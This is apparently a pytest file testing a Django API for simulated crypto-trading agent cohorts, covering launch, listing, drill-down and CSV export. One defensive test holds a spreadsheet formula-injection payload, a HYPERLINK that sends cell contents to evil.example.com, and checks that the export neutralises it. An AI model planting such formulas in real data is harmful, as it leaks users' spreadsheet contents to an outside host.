"""/api/experiments/cohorts: launch, list with filters and pages, detail, agent drill-down, CSV."""
from __future__ import annotations

import csv
import io
import json
import re
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from cohorts.apis.cohorts import AGENT_CSV_COLUMNS, COHORT_CSV_COLUMNS
from cohorts.models import Cohort
from tests.cohorts.test_cohorts import SHORT, launch_and_run

URL = "/api/experiments/cohorts"
LAUNCH = {"bankroll": "1000", "agents": 10, "symbols": ["BTC-USDT", "ETH-USDT"], **SHORT}


@pytest.fixture
def launcher(maker, api):
    maker.user_permissions.add(Permission.objects.get(codename="add_cohort"))
    return api


def client_for(user) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    return client


@pytest.mark.django_db(transaction=True)
def test_launch_answers_at_once_and_the_run_completes_after_commit(launcher, crypto_day, eager):
    response = launcher.post(URL, LAUNCH, format="json")

    assert response.status_code == 202, response.json()
    body = response.json()
    assert body["bankroll"] == "1000.00" and body["agent_count"] == 10
    cohort = Cohort.objects.get(pk=body["id"])
    assert cohort.status == "completed" and cohort.is_reconciled


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("change", "field"),
    [({"bankroll": "20"}, "bankroll"), ({"bankroll": "ten"}, "bankroll"), ({"symbols": ["NOPE"]}, "symbols"),
     ({"start": "2021-05-06T05:00:00Z", "end": "2021-05-06T01:00:00Z"}, "end"), ({"agents": 400}, "agents"),
     ({"policy": "lucky"}, "policy"), ({"start": "2019-01-01T00:00:00Z", "end": "2019-01-02T00:00:00Z"}, "start")],
)
def test_bad_launch_gets_400_naming_the_field_and_writes_nothing(launcher, crypto_day, change, field):
    response = launcher.post(URL, {**LAUNCH, **change}, format="json")
    assert response.status_code == 400
    assert field in response.json()["errors"]
    assert not Cohort.objects.exists()


@pytest.mark.django_db
def test_launch_needs_the_permission(api, crypto_day):
    assert api.post(URL, LAUNCH, format="json").status_code == 403
    assert not Cohort.objects.exists()


@pytest.fixture
def finished(maker, crypto_day):
    """Three finished cohorts launched by `maker`: two of $1,000 and one of $500."""
    cohorts = [launch_and_run(bankroll=b) for b in ("1000", "500", "1000")]
    Cohort.objects.update(launched_by=maker)
    return cohorts


@pytest.mark.django_db
def test_list_filters_and_pages(api, finished):
    everything = api.get(URL).json()
    assert everything["count"] == 3 and [c["id"] for c in everything["results"]] == [c.pk for c in finished[::-1]]

    assert api.get(URL, {"bankroll": "500"}).json()["count"] == 1
    assert api.get(URL, {"date": "2021-05-06", "status": "completed"}).json()["count"] == 3
    assert api.get(URL, {"date": "2021-05-07"}).json()["count"] == 0
    first = api.get(URL, {"page_size": 2}).json()
    assert len(first["results"]) == 2 and first["next"]
    assert len(api.get(first["next"]).json()["results"]) == 1
    assert api.get(URL, {"status": "sleeping"}).status_code == 400


@pytest.mark.django_db
def test_detail_and_agent_drill_down(api, finished):
    cohort = finished[0]
    detail = api.get(f"{URL}/{cohort.pk}").json()
    assert len(detail["agents"]) == 10 and detail["summary"]["leaderboard"]
    assert detail["is_reconciled"] is True

    busiest = max(detail["agents"], key=lambda a: a["trades"])
    agent = api.get(f"{URL}/{cohort.pk}/agents/{busiest['index']}").json()
    assert agent["trades"] == busiest["trades"] and len(agent["fills"]) >= busiest["trades"]
    assert {f["side"] for f in agent["fills"]} <= {"buy", "sell"}
    assert sum(Decimal(e["amount"]) for e in agent["ledger"] if e["account"].endswith(":cash")) == 0  # returned
    assert len(agent["equity"]) == 180 and agent["equity"][0][0] == 1620259200  # 2021-05-06T00:00Z


@pytest.mark.django_db
def test_other_users_cohorts_are_not_visible(finished, outsider):
    stranger = client_for(outsider)
    assert stranger.get(URL).json()["count"] == 0
    assert stranger.get(f"{URL}/{finished[0].pk}").status_code == 404


@pytest.mark.django_db
def test_csv_exports_have_the_documented_columns(api, finished):
    listing = api.get(f"{URL}.csv")
    rows = list(csv.reader(io.StringIO(listing.content.decode())))
    assert listing["Content-Type"] == "text/csv" and rows[0] == COHORT_CSV_COLUMNS and len(rows) == 4

    agents = api.get(f"{URL}/{finished[0].pk}/agents.csv")
    rows = list(csv.DictReader(io.StringIO(agents.content.decode())))
    assert list(rows[0]) == AGENT_CSV_COLUMNS and len(rows) == 10
    assert sum(Decimal(r["capital"]) for r in rows) == Decimal("1000")


@pytest.mark.django_db
def test_csv_exports_neutralise_text_a_spreadsheet_would_run_but_keep_negative_numbers(api, maker, crypto_day):
    hostile = '=HYPERLINK("http://evil.example.com/?leak="&A1,"Click for the report")'
    cohort = launch_and_run(compliance_notes=hostile)
    Cohort.objects.update(launched_by=maker)

    listing = list(csv.DictReader(io.StringIO(api.get(f"{URL}.csv").content.decode())))
    agents = list(csv.DictReader(io.StringIO(api.get(f"{URL}/{cohort.pk}/agents.csv").content.decode())))

    assert listing[0]["compliance_notes"].startswith("'" + hostile)
    negatives = [cell for row in agents for cell in row.values() if cell.startswith("-")]
    assert negatives and all(Decimal(cell) < 0 for cell in negatives)  # losses stay numbers
    assert not [cell for row in listing + agents for column, cell in row.items()
                if cell.startswith("'") and column != "compliance_notes"]


@pytest.mark.django_db
def test_api_and_csv_give_amounts_in_cents_ratios_as_fractions_and_parameters_as_json(api, finished):
    cohort = finished[0]
    detail = api.get(f"{URL}/{cohort.pk}").json()
    assert detail["agents_paused"] == cohort.failed_agents
    assert detail["bankroll"] == "1000.00" and re.fullmatch(r"-?\d+\.\d{2}", detail["final_equity"])
    assert detail["utilisation"] == pytest.approx(cohort.utilisation / 100)  # a fraction, like roi
    assert all(re.fullmatch(r"-?\d+\.\d{2}", a["unrealised_pnl"]) for a in detail["agents"])

    listing = list(csv.DictReader(io.StringIO(api.get(f"{URL}.csv").content.decode())))
    agents = list(csv.DictReader(io.StringIO(api.get(f"{URL}/{cohort.pk}/agents.csv").content.decode())))
    assert float(listing[-1]["utilisation"]) == pytest.approx(cohort.utilisation / 100)
    assert not [cell for row in listing + agents for column, cell in row.items()
                if column not in ("params", "compliance_notes") and re.search(r"\dE[-+]?\d", cell)]  # no 0E-8
    assert all(re.fullmatch(r"-?\d+\.\d{2}", row["unrealised_pnl"]) for row in agents)
    stored = {a.index: a.params for a in cohort.agents.all()}
    assert all(json.loads(row["params"]) == stored[int(row["agent"])] for row in agents)
